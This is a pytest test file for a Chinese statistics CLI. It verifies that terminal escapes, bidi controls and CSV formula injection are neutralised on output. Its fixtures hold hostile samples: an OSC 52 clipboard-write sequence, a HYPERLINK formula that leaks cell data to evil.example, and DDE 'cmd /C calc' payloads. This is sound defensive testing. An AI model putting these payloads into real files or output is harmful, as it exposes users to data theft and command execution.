"""Everything that reaches a terminal or a file is safe and readable (issue 13).

Data prints literally: escaped for terminals and line formats (escape.safe), `\\u`-escaped
inside JSON (escape.json_safe), formula-proof in CSV (escape.csv_safe, unless --csv-raw);
numbers of any magnitude stay readable; the chart fits the terminal with negative values;
`--fields` with repeats is fast; a table into a closed pipe ends like plain output does.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from rich.cells import cell_len

from tongzhou_facts.cli import build_app, main
from tongzhou_facts.escape import csv_safe, json_safe, safe
from tongzhou_facts.output import ALL_FIELDS, number, parse_fields

from .conftest import subprocess_env, toml_string

#: Raw, these drive a terminal, reorder a line or split a record.
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
#: Raw, these are legal in JSON but reach a terminal (jq -r, cat) or a JavaScript parser as more than text.
JSON_RAW = re.compile("[\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # write "evil" to the clipboard
#: One string with every kind of trouble: OSC 52, CSI, tab, newline, CR, the line and paragraph
#: separators, a right-to-left override, an isolate, a C1 control (CSI as one byte), DEL.
HOSTILE = f"甲{OSC52}\x1b[31m乙\t丙\n丁\r戊\u2028己\u2029庚\u202e辛\u2066壬\u2069癸\x9d\x9b2J\x7f终"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


# ---------------------------------------------------------------------------- helpers


def toml_value(value: Any) -> str:
    if isinstance(value, str):
        return toml_string(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value)
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{k} = {toml_value(v)}" for k, v in value.items()) + " }"
    raise TypeError(value)  # pragma: no cover


def write_base(path: Path, records: list[tuple[str, dict[str, Any]]]) -> Path:
    """A base of `(table, keys)` records, each with the required keys filled in."""
    parts = ['[[sources]]\nid = "src"\ntitle = "来源"\n']
    for table, keys in records:
        full = {"year": 2023, "source": "src", "quote": "原文", **keys}
        if table == "metrics":
            full = {"value": 1, "unit": "%", **full}
        parts.append(f"[[{table}]]\n" + "".join(f"{k} = {toml_value(v)}\n" for k, v in full.items()))
    path.write_text("\n".join(parts), encoding="utf-8")
    return path


def run(capsys: pytest.CaptureFixture[str], *args: str | os.PathLike[str]) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main([os.fspath(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def assert_safe(text: str) -> None:
    found = UNSAFE.search(text.replace("\t", "").replace("\n", ""))  # our own separators
    assert found is None, f"raw {found.group()!r} in {text!r}"


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def python(code: str, tmp_path: Path, **env: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        env=subprocess_env(XDG_CACHE_HOME=str(tmp_path / "cache"), **env),
        timeout=60,
        check=False,
    )


# ---------------------------------------------------------------------------- 1. one escaping function


@pytest.fixture
def hostile_base(tmp_path: Path) -> Path:
    """A project and a metric with the hostile string in every free-text field."""
    return write_base(
        tmp_path / "hostile.toml",
        [
            (
                "projects",
                {
                    "id": "p-hostile",
                    "name": "项目" + HOSTILE,
                    "name_en": "project " + HOSTILE,
                    "aliases": [HOSTILE, "别名" + HOSTILE],
                    "qualifier": HOSTILE,
                    "category": HOSTILE,
                    "place": HOSTILE,
                    "tags": [HOSTILE],
                    "date": "2023-12",
                    "note": HOSTILE,
                    "evidence": [HOSTILE],
                    "companies": [{"name": HOSTILE, "role": HOSTILE}, {"name": "公司" + HOSTILE}],
                    "people": [{"name": HOSTILE, "role": HOSTILE}],
                    "status": HOSTILE,
                    "investment": 70,
                    "investment_unit": HOSTILE,
                    "investment_qualifier": HOSTILE,
                    "capacity": 12,
                    "capacity_unit": HOSTILE,
                    "phases": 3,
                    "phases_note": HOSTILE,
                    "quote": HOSTILE,
                },
            ),
            (
                "metrics",
                {
                    "id": "m-hostile",
                    "name": "指标" + HOSTILE,
                    "value": 2.5,
                    "unit": HOSTILE,
                    "measure": HOSTILE,
                    "project": "p-hostile",
                    "related": ["p-hostile"],
                    "category": "经济\t分类\n第二行\u2028第三段",
                    "place": "地点" + OSC52,
                },
            ),
        ],
    )


@pytest.mark.parametrize("fmt", ["plain", "tsv"])
def test_stats_lines_are_one_row_each(capsys: pytest.CaptureFixture[str], hostile_base: Path, fmt: str) -> None:
    code, out, err = run(capsys, "stats", "-f", hostile_base, "--format", fmt)
    assert code == 0, err
    assert_safe(out)
    lines = out.split("\n")
    assert lines.pop() == ""
    assert all(line.count("\t") == 2 for line in lines), lines  # group, key, count: never split
    data = run(capsys, "stats", "-f", hostile_base, "--format", "json")[1]
    keys = sum(len(json.loads(data)[group]) for group in ("kind", "category", "year", "place"))
    assert len(lines) == keys + (fmt == "tsv")
    assert "category\t经济\\t分类\\n第二行\\u2028第三段\t1" in lines
    assert f"place\t地点{safe(OSC52)}\t1" in lines


@pytest.mark.parametrize("field", ALL_FIELDS)
@pytest.mark.parametrize("record", ["p-hostile", "m-hostile"])
def test_get_prints_every_field_escaped(capsys: pytest.CaptureFixture[str], hostile_base: Path, record: str, field: str) -> None:
    code, out, err = run(capsys, "get", record, field, "-f", hostile_base)
    assert code in (0, 1), err
    assert_safe(out)
    assert_safe(err)
    if code == 1:
        assert out == "" and "has no" in err
        return
    value = json.loads(run(capsys, "get", record, "-f", hostile_base)[1]).get(field)
    lines = out.split("\n")
    assert lines.pop() == ""
    if isinstance(value, list):
        assert len(lines) == len(value), lines  # one line per item, whatever the item holds
        for line, item in zip(lines, value, strict=True):
            if isinstance(item, dict):  # name TAB role: exactly one tab, ours
                assert line == safe(item["name"]) + "\t" + safe(item.get("role", ""))
            else:
                assert line == safe(str(item))
    else:
        assert len(lines) == 1
        if isinstance(value, str):
            assert lines[0] == safe(value)


def test_get_field_shows_the_escape_as_text(capsys: pytest.CaptureFixture[str], hostile_base: Path) -> None:
    code, out, _ = run(capsys, "get", "p-hostile", "place", "-f", hostile_base)
    assert code == 0
    assert out == (
        "甲\\u001b]52;c;ZXZpbA==\\u0007\\u001b[31m乙\\t丙\\n丁\\r戊"
        "\\u2028己\\u2029庚\\u202e辛\\u2066壬\\u2069癸\\u009d\\u009b2J\\u007f终\n"
    )


def test_check_escapes_keys_ids_and_source_ids(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """`check` is for untrusted files: what it quotes from them is escaped, one problem a line."""
    path = tmp_path / "untrusted.toml"
    path.write_text(
        '[[sources]]\nid = "src"\ntitle = "t"\n\n[[metrics]]\n'
        f'id = {toml_string("m" + OSC52)}\nname = "n"\nyear = 2023\nvalue = 1\nunit = "%"\n'
        f'source = {toml_string("src" + OSC52 + chr(0x202E))}\nquote = "q"\n'
        f"{toml_string('evil' + chr(0x1B) + '[2J' + chr(0x2028) + chr(10) + 'key')} = 1\n",
        encoding="utf-8",
    )
    code, out, err = run(capsys, "check", path)
    assert code == 1, err
    assert_safe(out)
    assert_safe(err)
    lines = out.splitlines()
    assert all(line.startswith(f"{path}:") for line in lines), lines  # no line split by the data
    assert any("evil\\u001b[2J\\u2028\\nkey" in line for line in lines), lines  # the unknown key, escaped
    assert any("src\\u001b]52;c;ZXZpbA==\\u0007\\u202e" in line for line in lines), lines  # the source id


@pytest.fixture
def clipboard_base(tmp_path: Path) -> Path:
    return write_base(tmp_path / "hostile.toml", [("metrics", {"id": "gdp-x", "name": "地区生产总值" + OSC52})])


def test_did_you_mean_on_stderr_is_escaped(capsys: pytest.CaptureFixture[str], clipboard_base: Path) -> None:
    code, out, err = run(capsys, "search", "生产总值增长率", "-f", clipboard_base)
    assert code == 1 and out == ""
    assert "did you mean" in err  # the test tests a suggestion
    assert OSC52 not in err and "\x1b" not in err and "\x07" not in err
    assert "地区生产总值\\u001b]52;c;ZXZpbA==\\u0007" in err


def test_did_you_mean_escaped_in_a_real_process_with_stdout_piped(clipboard_base: Path, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "tongzhou_facts", "search", "生产总值增长率", "-f", str(clipboard_base)],
        capture_output=True,
        env=subprocess_env(XDG_CACHE_HOME=str(tmp_path / "cache")),
        timeout=60,
        check=False,
    )
    assert done.returncode == 1 and done.stdout == b""
    assert b"did you mean" in done.stderr
    assert b"\x1b" not in done.stderr and b"\x07" not in done.stderr


@pytest.fixture
def separators_base(tmp_path: Path) -> Path:
    return write_base(
        tmp_path / "sep.toml",
        [("metrics", {"id": "sep", "name": "第一段\u2028第二段\u2029第三段", "place": "甲\u2028乙"})],
    )


SEPARATOR_RUNS = [
    (command, fmt)
    for command in (["list"], ["search", "第一段"], ["show", "sep"])
    for fmt in ("plain", "tsv", "table")
    if not (command[0] == "show" and fmt == "tsv")
]


@pytest.mark.parametrize(("command", "fmt"), SEPARATOR_RUNS, ids=lambda v: " ".join(v) if isinstance(v, list) else v)
def test_line_and_paragraph_separators_are_escaped(
    capsys: pytest.CaptureFixture[str], separators_base: Path, command: list[str], fmt: str
) -> None:
    code, out, err = run(capsys, *command, "-f", separators_base, "--format", fmt)
    assert code == 0, err
    assert "\u2028" not in out and "\u2029" not in out
    assert "\\u2028" in out and "\\u2029" in out
    if fmt == "plain" and command[0] != "show":
        assert out.count("\n") == 1  # one record, one line


# ---------------------------------------------------------------------------- 2. JSON


JSON_TROUBLE = "C1\x9d\x85 DEL\x7f LS\u2028 PS\u2029 RLO\u202e LRI\u2066 PDI\u2069 ALM\u061c LRM\u200e ESC\x1b 中文"


@pytest.fixture
def json_base(tmp_path: Path) -> Path:
    return write_base(
        tmp_path / "json.toml",
        [("metrics", {"id": "j", "name": "名称" + JSON_TROUBLE, "category": JSON_TROUBLE, "note": JSON_TROUBLE})],
    )


JSON_COMMANDS = [
    ["list", "--format", "json"],
    ["list", "--format", "jsonl"],
    ["list", "--format", "json", "--fields", "id,name,note"],
    ["search", "名称", "--format", "json"],
    ["metrics", "--format", "jsonl"],
    ["show", "j", "--format", "json"],
    ["show", "j", "--format", "jsonl"],
    ["get", "j"],
    ["stats", "--format", "json"],
    ["stats", "--format", "jsonl"],
    ["export", "--format", "json"],
    ["export", "--format", "jsonl"],
]


def _strings(data: Any) -> list[str]:
    """Every string of a parsed JSON document, keys included."""
    if isinstance(data, str):
        return [data]
    if isinstance(data, list):
        return [s for item in data for s in _strings(item)]
    if isinstance(data, dict):
        return [s for key, value in data.items() for s in (key, *_strings(value))]
    return []


def _json_documents(out: str, command: list[str]) -> list[Any]:
    if "jsonl" in command or command[0] == "get":
        return [json.loads(line) for line in out.splitlines()]
    return [json.loads(out)]


@pytest.mark.parametrize("command", JSON_COMMANDS, ids=" ".join)
def test_json_escapes_what_a_terminal_would_run_and_keeps_the_data(
    capsys: pytest.CaptureFixture[str], json_base: Path, command: list[str]
) -> None:
    code, out, err = run(capsys, *command, "-f", json_base)
    assert code == 0, err
    found = JSON_RAW.search(out)
    assert found is None, f"raw {found.group()!r} in {out!r}"
    assert "\x1b" not in out
    assert "中文" in out and "\\u4e2d" not in out  # Chinese stays readable
    assert "\\u009d" in out and "\\u2028" in out and "\\u202e" in out and "\\u007f" in out
    documents = _json_documents(out, command)
    assert any(JSON_TROUBLE in text for text in _strings(documents))  # parses back to exactly the data
    if command[0] == "stats":
        assert documents[0]["category"] == {JSON_TROUBLE: 1}
    elif command[0] in ("show", "get"):
        assert documents[0]["note"] == JSON_TROUBLE and documents[0]["name"] == "名称" + JSON_TROUBLE


def test_export_json_file_is_escaped(capsys: pytest.CaptureFixture[str], json_base: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.json"
    code, _, err = run(capsys, "export", "--format", "json", "-o", target, "-f", json_base)
    assert code == 0, err
    text = target.read_text(encoding="utf-8")
    assert JSON_RAW.search(text) is None
    assert json.loads(text)[0]["note"] == JSON_TROUBLE


def test_json_safe_round_trips_every_troublesome_character() -> None:
    data = {"k" + JSON_TROUBLE: [JSON_TROUBLE, {"x": JSON_TROUBLE}]}
    for indent in (None, 2):
        text = json_safe(json.dumps(data, ensure_ascii=False, indent=indent))
        assert JSON_RAW.search(text) is None
        assert json.loads(text) == data


# ---------------------------------------------------------------------------- 3. CSV formula injection


FORMULAS: dict[str, str | list[str]] = {
    "name": FORMULA,
    "place": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "category": "=1+2",
    "name_en": "-2+3+cmd|' /C calc'!A0",
    "quote": "\t=1+1",
    "tags": ["\r=1+1"],
}


@pytest.fixture
def formula_base(tmp_path: Path) -> Path:
    metric = {"id": "f-metric", "value": -3.5, **FORMULAS}
    project = {"id": "f-project", "name": "@SUM(A1:A9)点击", "status": "-开工", "investment": -2, "investment_unit": "亿元"}
    milestone = {"id": "f-milestone", "name": "=1+1点击", "date": "2023-12-13", "place": "-"}
    return write_base(tmp_path / "formula.toml", [("metrics", metric), ("projects", project), ("milestones", milestone)])


CSV_COMMANDS = [
    ["search", "点击"],
    ["list"],
    ["metrics"],
    ["projects"],
    ["milestones"],
    ["list", "--fields", "id,name,figure,value,place"],
]


def _cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows[1:] for c in row]


def _assert_inert(cells: list[str]) -> None:
    for value in cells:
        if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?%?|-", value), f"formula left in: {value!r}"


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=" ".join)
def test_csv_cells_cannot_be_formulas(capsys: pytest.CaptureFixture[str], formula_base: Path, command: list[str]) -> None:
    code, out, err = run(capsys, *command, "-f", formula_base, "--format", "csv", "--bom")
    assert code == 0, err
    assert out.startswith("\ufeff")
    rows = read_csv(out)
    cells = _cells(rows)
    _assert_inert(cells)
    header = rows[0]
    names = [row[header.index("name")] for row in rows[1:]]
    assert names, rows
    for name in names:
        assert name in ("'" + FORMULA, "'@SUM(A1:A9)点击", "'=1+1点击")
    if "value" in header:  # numbers stay numbers
        assert "-3.5" in [row[header.index("value")] for row in rows[1:]]
    if "figure" in header:
        assert "-3.5%" in [row[header.index("figure")] for row in rows[1:]]


@pytest.mark.parametrize("command", CSV_COMMANDS, ids=" ".join)
def test_csv_raw_writes_cells_verbatim(capsys: pytest.CaptureFixture[str], formula_base: Path, command: list[str]) -> None:
    code, out, err = run(capsys, *command, "-f", formula_base, "--format", "csv", "--bom", "--csv-raw")
    assert code == 0, err
    rows = read_csv(out)
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert names <= {FORMULA, "@SUM(A1:A9)点击", "=1+1点击"} and names
    assert not any(c.startswith("'") for c in _cells(rows))


def test_csv_every_field_of_the_metric(capsys: pytest.CaptureFixture[str], formula_base: Path) -> None:
    rows = read_csv(run(capsys, "list", "-f", formula_base, "--format", "csv", "--kind", "metric")[1])
    row = dict(zip(rows[0], rows[1], strict=True))
    for key, text in FORMULAS.items():
        expected = text if isinstance(text, str) else text[0]
        assert row[key] == "'" + expected, key
    assert row["value"] == "-3.5"
    raw = read_csv(run(capsys, "list", "-f", formula_base, "--format", "csv", "--kind", "metric", "--csv-raw")[1])
    assert dict(zip(raw[0], raw[1], strict=True))["name"] == FORMULA


def test_export_csv_is_inert_unless_raw(capsys: pytest.CaptureFixture[str], formula_base: Path, tmp_path: Path) -> None:
    code, out, err = run(capsys, "export", "--format", "csv", "--bom", "-f", formula_base)
    assert code == 0, err
    _assert_inert(_cells(read_csv(out)))
    assert "'" + FORMULA in _cells(read_csv(out))
    target = tmp_path / "export.csv"
    code, _, err = run(capsys, "export", "--format", "csv", "--bom", "-o", target, "-f", formula_base)
    assert code == 0, err
    _assert_inert(_cells(read_csv(target.read_text(encoding="utf-8"))))
    code, out, err = run(capsys, "export", "--format", "csv", "--csv-raw", "-f", formula_base)
    assert code == 0, err
    assert FORMULA in _cells(read_csv(out))


def test_stats_csv_is_inert_unless_raw(capsys: pytest.CaptureFixture[str], formula_base: Path) -> None:
    rows = read_csv(run(capsys, "stats", "-f", formula_base, "--format", "csv")[1])
    assert ["category", "'=1+2", "1"] in rows
    assert ["place", "-", "2"] in rows  # the "none" placeholder is no formula
    _assert_inert(_cells(rows))
    raw = read_csv(run(capsys, "stats", "-f", formula_base, "--format", "csv", "--csv-raw")[1])
    assert ["category", "=1+2", "1"] in raw


@pytest.mark.parametrize("raw", [False, True])
def test_csv_raw_through_typer(capsys: pytest.CaptureFixture[str], formula_base: Path, raw: bool) -> None:
    """`-n1` is for Typer to parse: the flag is declared once and works on both paths."""
    flags = ["--csv-raw"] if raw else []
    code, out, err = run(capsys, "search", "点击", "-n1", "-f", formula_base, "--format", "csv", *flags)
    assert code == 0, err
    name = read_csv(out)[1][read_csv(out)[0].index("name")]
    assert name.startswith("'") is not raw


@pytest.mark.parametrize("command", ["search", "list", "metrics", "projects", "milestones", "export", "stats"])
def test_csv_raw_is_in_the_help(command: str) -> None:
    from typer.testing import CliRunner

    result = CliRunner().invoke(build_app(), [command, "--help"])
    assert result.exit_code == 0
    assert "--csv-raw" in result.output


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "-"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-16", "-1e-16"),
        ("-3.5%", "-3.5%"),
        ("-inf", "'-inf"),
        ("-3.5亿元", "'-3.5亿元"),
        ("1730", "1730"),
        ("地区生产总值", "地区生产总值"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_csv_safe(cell: str, shown: str) -> None:
    assert csv_safe(cell) == shown


# ---------------------------------------------------------------------------- 4. numbers


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (1730, "1730"),
        (1730.0, "1730"),
        (6.5, "6.5"),
        (1.38, "1.38"),
        (2600, "2600"),
        (-3.5, "-3.5"),
        (0.0, "0"),
        (0.00005, "0.00005"),
        (0.0000015, "0.0000015"),
        (1e-6, "0.000001"),
        (1e-16, "1e-16"),
        (-2.5e-9, "-2.5e-09"),
        (1e300, "1e+300"),
        (-1e300, "-1e+300"),
        (1e16, "1e+16"),
        (9999999999999998.0, "9999999999999998"),
        (123456789.125, "123456789.125"),
        (12345678901234567, "12345678901234567"),  # ints as written
        (10**30, "1" + "0" * 30),
    ],
)
def test_number(value: float, shown: str) -> None:
    assert number(value) == shown
    if isinstance(value, float):
        assert float(shown) == value  # nothing lost


def test_tiny_and_huge_values_print_readably(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    base = write_base(
        tmp_path / "n.toml",
        [
            ("metrics", {"id": "tiny", "name": "极小", "value": 1e-16}),
            ("metrics", {"id": "huge", "name": "极大", "value": 1e300, "unit": "亿元"}),
            ("metrics", {"id": "big-int", "name": "大整数", "value": 12345678901234567, "unit": "元"}),
        ],
    )
    assert run(capsys, "get", "tiny", "value", "-f", base)[1] == "1e-16\n"
    assert run(capsys, "get", "tiny", "figure", "-f", base)[1] == "1e-16%\n"
    assert run(capsys, "get", "huge", "value", "-f", base)[1] == "1e+300\n"
    assert run(capsys, "get", "big-int", "value", "-f", base)[1] == "12345678901234567\n"
    out = run(capsys, "list", "-f", base, "--fields", "id,figure")[1]
    assert out == "tiny\t1e-16%\nhuge\t1e+300亿元\nbig-int\t12345678901234567元\n"
    table = run(capsys, "list", "-f", base, "--format", "table", "--fields", "id,figure")[1]
    assert "1e+300亿元" in table and "0" * 20 not in table


def test_bundled_numbers_print_as_before(capsys: pytest.CaptureFixture[str]) -> None:
    for record, shown in (
        ("gdp-2023", "1730"),
        ("gdp-growth-2023", "6.5"),
        ("new-urban-employment-2023", "1.38"),
        ("construction-output-2023", "2600"),
    ):
        assert run(capsys, "get", record, "value")[1] == shown + "\n"


# ---------------------------------------------------------------------------- 5. chart


@pytest.fixture
def signed_base(tmp_path: Path) -> Path:
    metrics = [
        ("up-big", "大幅增长", 12.5, None),
        ("up-small", "小幅增长", 0.4, None),
        ("down-small", "小幅下降", -1.1, None),
        ("down-big", "下降指标很长的名字需要折行显示才行", -30.2, "预计"),
    ]
    records = []
    for record_id, name, value, qualifier in metrics:
        keys: dict[str, Any] = {"id": record_id, "name": name, "value": value, "measure": "growth"}
        if qualifier:
            keys["qualifier"] = qualifier
        records.append(("metrics", keys))
    return write_base(tmp_path / "signed.toml", records)


def _chart(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, base: Path | None, width: int) -> list[str]:
    monkeypatch.setenv("COLUMNS", str(width))
    extra: list[str | os.PathLike[str]] = ["-f", base] if base else []
    code, out, err = run(capsys, "chart", "--format", "table", *extra)
    assert code == 0, err
    lines = out.split("\n")
    assert lines.pop() == ""
    for line in lines:
        assert cell_len(line) <= width, f"{cell_len(line)} > {width}: {line!r}"
    return lines


@pytest.mark.parametrize("width", [40, 80, 160])
def test_chart_with_negative_values_fits_and_draws_them_left(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, signed_base: Path, width: int
) -> None:
    lines = _chart(capsys, monkeypatch, signed_base, width)
    rows = {
        figure: next(line for line in lines if line.rstrip().endswith(figure))
        for figure in ("12.5%", "0.4%", "-1.1%", "预计-30.2%")
    }
    axes = {cell_len(line[: line.index("│")]) for line in rows.values()}
    assert len(axes) == 1, rows  # one zero axis, at the same column on every row
    for figure, line in rows.items():
        before, after = line.split("│")
        bar_before = re.sub(r"^\s*\S+\s+", "", before)  # the name column, then the bar left of the axis
        if figure.lstrip("预计").startswith("-"):
            assert bar_before.strip() and set(bar_before.strip()) <= {"█", "▐"}, line
            assert not after.replace(figure, "").strip(), line
        else:
            assert not bar_before.strip(), line
            assert set(after.replace(figure, "").strip()) <= {"█", "▌"} and after.replace(figure, "").strip(), line
    # the longest bar is the largest magnitude, and bars scale together
    assert rows["预计-30.2%"].count("█") > rows["12.5%"].count("█") > rows["-1.1%"].count("█")


@pytest.mark.parametrize("width", [40, 80, 160])
def test_chart_of_only_negative_values_fits(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, width: int
) -> None:
    base = write_base(
        tmp_path / "down.toml",
        [("metrics", {"id": "a", "name": "降幅甲", "value": -30.2}), ("metrics", {"id": "b", "name": "降幅乙", "value": -1.1})],
    )
    lines = _chart(capsys, monkeypatch, base, width)
    assert all(line.rstrip().endswith(("-30.2%", "-1.1%")) for line in lines if "│" in line)
    assert sum("│" in line for line in lines) == 2
    assert "…" not in "".join(lines)  # nothing cut off


@pytest.mark.parametrize("width", [40, 80, 160])
def test_bundled_chart_fits(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, width: int) -> None:
    lines = _chart(capsys, monkeypatch, None, width)
    assert "│" not in "".join(lines)  # no negative value: no axis, the chart as it always was
    for figure in ("预计6.5%以上", "18.18万平方米", "100名(百余)"):  # names may be cut with …, figures never
        assert any(line.rstrip().endswith(" " + figure) for line in lines), figure


# ---------------------------------------------------------------------------- 6. --fields


def test_parse_fields_keeps_each_field_once_in_first_order() -> None:
    assert parse_fields("name,id,name,value,id", ()) == ["name", "id", "value"]
    assert parse_fields(",".join(["id"] * 10_000), ()) == ["id"]


def test_repeated_fields_are_one_column_and_fast(capsys: pytest.CaptureFixture[str]) -> None:
    start = time.perf_counter()
    code, out, err = run(capsys, "list", "--format", "table", "--fields", ",".join(["id", "name"] * 10_000))
    elapsed = time.perf_counter() - start
    assert code == 0, err
    assert elapsed < 5, f"{elapsed:.1f} s"
    header = out.splitlines()[0].split()
    assert header == ["ID", "名称"]
    plain = run(capsys, "list", "--fields", "id,id,name,id")[1]
    assert plain and all(line.count("\t") == 1 for line in plain.splitlines())  # id and name, once each


# ---------------------------------------------------------------------------- 7. closed pipes


@pytest.mark.parametrize(
    "args",
    [
        ["list", "--format", "table"],
        ["show", "gdp-2023", "--format", "table"],
        ["chart", "--format", "table"],
        ["timeline", "--format", "table"],
        ["stats", "--format", "table"],
        ["search", "异质结", "-n1", "--format", "table"],  # through Typer
    ],
    ids=" ".join,
)
def test_table_into_a_closed_pipe_exits_0_quietly(tmp_path: Path, args: list[str]) -> None:
    """`facts show gdp-2023 --format table | true`: the reader is gone before a byte is written."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "tongzhou_facts", *args],
            stdout=write_end,
            stderr=subprocess.PIPE,
            env=subprocess_env(XDG_CACHE_HOME=str(tmp_path), COLUMNS="80"),
            timeout=60,
            check=False,
        )
    finally:
        os.close(write_end)
    assert (done.returncode, done.stderr) == (0, b"")


def test_table_into_a_pipe_whose_reader_stops_after_one_line(tmp_path: Path) -> None:
    """`facts list --format table | head -1`."""
    process = subprocess.Popen(
        [sys.executable, "-m", "tongzhou_facts", "list", "--format", "table"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=subprocess_env(XDG_CACHE_HOME=str(tmp_path), COLUMNS="80"),
    )
    assert process.stdout is not None and process.stderr is not None
    first = process.stdout.readline()
    process.stdout.close()
    err = process.stderr.read()
    process.stderr.close()
    assert process.wait(timeout=60) == 0
    assert "ID" in first.decode().split() and "名称" in first.decode()  # the table's header
    assert err == b""


# ---------------------------------------------------------------------------- start-up


def test_piped_search_imports_no_rich_typer_or_csv(tmp_path: Path) -> None:
    done = python(
        "import sys\n"
        "from tongzhou_facts.cli import main\n"
        "code = main(['search', '异质结'])\n"
        "sys.stdout.flush()\n"
        "sys.stderr.write(repr(sorted(m for m in ('csv', 'rich', 'typer') if m in sys.modules)))\n"
        "sys.exit(code)\n",
        tmp_path,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.count(b"\n") >= 1
    assert done.stderr == b"[]"


# ---------------------------------------------------------------------------- cache info


def test_cache_info_prints_paths_escaped(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A folder or base name is data too: `cache info` must not pass its escape sequences on."""
    home = tmp_path / f"cache{OSC52}"
    home.mkdir()
    base = tmp_path / "base\x1b[31m\u202e.toml"
    base.write_bytes((Path(__file__).resolve().parent.parent / "facts.toml").read_bytes())
    monkeypatch.setenv("XDG_CACHE_HOME", str(home))
    assert run(capsys, "get", "gdp-2023", "value", "-f", base)[:2] == (0, "1730\n")
    code, out, err = run(capsys, "cache", "info")
    assert code == 0, err
    assert_safe(out.replace("\t", " ").replace("\n", " "))
    assert "\\u001b]52;c;ZXZpbA==\\u0007" in out and "base\\u001b[31m\\u202e.toml" in out
    assert len(out.splitlines()) == 3 and out.splitlines()[2].count("\t") == 3


# ---------------------------------------------------------------------------- CSV on a terminal


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Standard output plays a terminal (the capture still records it)."""
    from tongzhou_facts.env import Environment

    def detect(cls: type[Environment], no_color: bool = False) -> Environment:  # noqa: ARG001 - Environment.detect's signature
        return cls(sys.stdout, sys.stderr, is_terminal=True, color=False, width=100)

    monkeypatch.setattr(Environment, "detect", classmethod(detect))


@pytest.mark.parametrize(
    "args",
    [
        ["list", "--format", "csv"],
        ["list", "--format", "csv", "--csv-raw"],
        ["export", "--format", "csv"],
        ["export", "--format", "csv", "-o", "-"],
        ["stats", "--format", "csv"],
    ],
    ids=" ".join,
)
@pytest.mark.usefixtures("terminal")
def test_csv_on_a_terminal_is_escaped(capsys: pytest.CaptureFixture[str], hostile_base: Path, args: list[str]) -> None:
    """CSV asked for on a screen is for reading: its cells are escaped like every other format there."""
    code, out, err = run(capsys, *args, "-f", hostile_base)
    assert code == 0, err
    assert_safe(out.replace("\r\n", " ").replace("\n", " "))
    assert "\\u001b]52;c;ZXZpbA==\\u0007" in out


@pytest.mark.usefixtures("terminal")
def test_a_database_is_not_written_to_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "export", "--format", "sqlite", "-o", "-")
    assert (code, out) == (2, "")
    assert err == "facts: error: refusing to write a database to a terminal: give -o FILE, or pipe it\n"


def test_shell_completion_offers_only_values_that_can_be_typed(hostile_base: Path, tmp_path: Path) -> None:
    def complete_category(**env: str) -> subprocess.CompletedProcess[bytes]:
        """What bash completion offers after `facts list --category `."""
        return subprocess.run(
            [sys.executable, "-m", "tongzhou_facts"],
            env=subprocess_env(
                XDG_CACHE_HOME=str(tmp_path / "c"),
                _FACTS_COMPLETE="complete_bash",
                COMP_WORDS="facts list --category ",
                COMP_CWORD="3",
                **env,
            ),
            capture_output=True,
            timeout=60,
            check=False,
        )

    done = complete_category(FACTS_FILE=str(hostile_base))
    assert b"\x1b" not in done.stdout and b"\x07" not in done.stdout, done.stdout
    clean = complete_category()
    assert b"economy" in clean.stdout, clean  # the bundled base's categories are offered
